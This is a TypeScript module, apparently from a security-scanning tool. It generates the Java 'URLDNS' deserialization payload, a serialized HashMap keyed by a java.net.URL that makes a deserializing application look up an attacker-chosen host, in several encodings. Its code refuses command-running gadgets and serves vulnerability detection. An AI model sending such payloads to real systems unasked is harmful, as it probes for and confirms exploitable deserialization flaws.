// Serialized Java objects (Java Object Serialization Specification, chapter 6) that make whoever reads them look up a name: a java.util.HashMap whose key is a java.net.URL.
// It runs nothing where it is read. Gadgets that run commands are not made here.
import { gzipSync } from 'node:zlib'
import type { Bytes } from '../model.ts'
import { EvaluationError } from './evaluation.ts'

const short = (value: number): Bytes => String.fromCharCode((value >> 8) & 0xff, value & 0xff)
const int = (value: number): Bytes => short(value >>> 16) + short(value)
const utf = (text: Bytes): Bytes => short(text.length) + text
const string = (text: Bytes): Bytes => `\u0074${utf(text)}`
const hex = (digits: string): Bytes => Buffer.from(digits, 'hex').toString('latin1')

const object = '\u0073'
const end = '\u0078'
const nothing = '\u0070'

/** Serializable, with a writeObject of its own; no superclass. */
const classOf = (name: string, version: string, fields: readonly Bytes[]): Bytes => `\u0072${utf(name)}${hex(version)}\u0003${short(fields.length)}${fields.join('')}${end}${nothing}`

const text = 'Ljava/lang/String;'
/** The fourth thing of the stream that may be referred to: the name of a type, written once. */
const again = `\u0071${int(0x007e0003)}`

function dnsGadget(address: Bytes): Bytes {
  const [, protocol = 'http', host = '', port = '', file = ''] = /^(?:([a-z]+):\/\/)?([^/:?#]*)(?::(\d{1,5}))?(.*)$/s.exec(address) ?? []
  if (host === '' || host.length > 0xffff || file.length > 0xffff) throw new EvaluationError('invalid_input', 'generate_java_gadget() needs an address with a host.')
  const url =
    classOf('java.net.URL', '962537361afce472', ['I' + utf('hashCode'), 'I' + utf('port'), `L${utf('authority')}${string(text)}`, ...['file', 'host', 'protocol', 'ref'].map((name) => `L${utf(name)}${again}`)]) +
    int(-1) + int(port === '' ? -1 : Number(port)) + string(port === '' ? host : `${host}:${port}`) + string(file) + string(host) + string(protocol) + nothing + end
  const map = classOf('java.util.HashMap', '0507dac1c31660d1', ['F' + utf('loadFactor'), 'I' + utf('threshold')]) + hex('3f400000') + int(12)
  return hex('aced0005') + object + map + hex('7708') + int(16) + int(1) + object + url + string(address) + end
}

/** Why a gadget is not to be had; null: it is. */
export const gadgetRefusal = (gadget: Bytes): string | null => (gadget.toLowerCase() === 'dns' ? null : `of its gadgets only 'dns' is made, not those that run commands`)

export function javaGadget(gadget: Bytes, argument: Bytes, encoding: Bytes): Bytes {
  const refusal = gadgetRefusal(gadget)
  if (refusal !== null) throw new EvaluationError('wrong_arguments', `generate_java_gadget(): ${refusal}.`)
  const data = dnsGadget(argument)
  const packed = (): Bytes => gzipSync(Buffer.from(data, 'latin1')).toString('latin1')
  const base64 = (bytes: Bytes): Bytes => Buffer.from(bytes, 'latin1').toString('base64')
  switch (encoding) {
    case 'raw': return data
    case 'hex': return Buffer.from(data, 'latin1').toString('hex')
    case 'gzip': return packed()
    case 'gzip-base64': return base64(packed())
    case 'base64-raw': return base64(data)
    // '+' would become a space in a query.
    default: return base64(data).replaceAll('+', '%2B')
  }
}
